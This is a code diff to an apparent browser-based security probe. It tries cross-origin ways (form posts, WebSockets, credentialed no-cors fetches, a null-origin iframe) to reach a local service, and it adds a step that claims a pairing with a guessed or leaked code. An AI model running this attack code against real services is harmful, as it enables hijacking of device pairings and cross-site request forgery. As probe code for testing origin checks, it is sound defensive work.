@@ -44,6 +44,12 @@ const WAYS = {
     form.submit();
     setTimeout(() => { frame.onload = () => done(false); }, 0);
   }),
+  guess: async (base, mark, code) => {  // a pairing that waits, whose code came out somewhere
+    const body = JSON.stringify({code: code || mark + "-guess", commit: "A".repeat(43)});
+    const how = {method: "POST", mode: "no-cors", credentials: "include", body};
+    await fetch(base + "/v1/pairings/claim", {...how, headers: {"content-type": "text/plain"}});
+    return false;
+  },
   websocket: base => new Promise(done => {
     const line = new WebSocket(base.replace("http", "ws") + "/v1/stream", ["rc.v1"]);
     line.onmessage = () => done(true);
@@ -51,17 +57,17 @@ const WAYS = {
   }),
 };
 
-async function attack(base, mark) {
+async function attack(base, mark, code) {
   // Who hands a cookie to every visitor, hands it to this one.
   await Promise.race([fetch(base + "/", {mode: "no-cors", credentials: "include"}).catch(() => {}), never(5)]);
   const tried = Object.entries(WAYS).map(async ([way, go]) =>
-    [way, await Promise.race([go(base, mark).catch(error => String(error)), never(5)])]);
+    [way, await Promise.race([go(base, mark, code).catch(error => String(error)), never(5)])]);
   return Object.fromEntries(await Promise.all(tried));
 }
 
 // The same from a document that has no origin: it is `null` to whom it asks.
-const attackFromNowhere = (how, base, mark) => new Promise(done => {
-  const html = "<body><script>" + source + "\\nattack(" + JSON.stringify(base) + "," + JSON.stringify(mark) +
+const attackFromNowhere = (how, base, mark, code) => new Promise(done => {
+  const html = "<body><script>" + source + "\\nattack(" + [base, mark, code].map(each => JSON.stringify(each)) +
     ").then(result => parent.postMessage(result, '*'))</" + "script>";
   addEventListener("message", event => done({origin: event.origin, ...event.data}), {once: true});
   const frame = document.createElement("iframe");
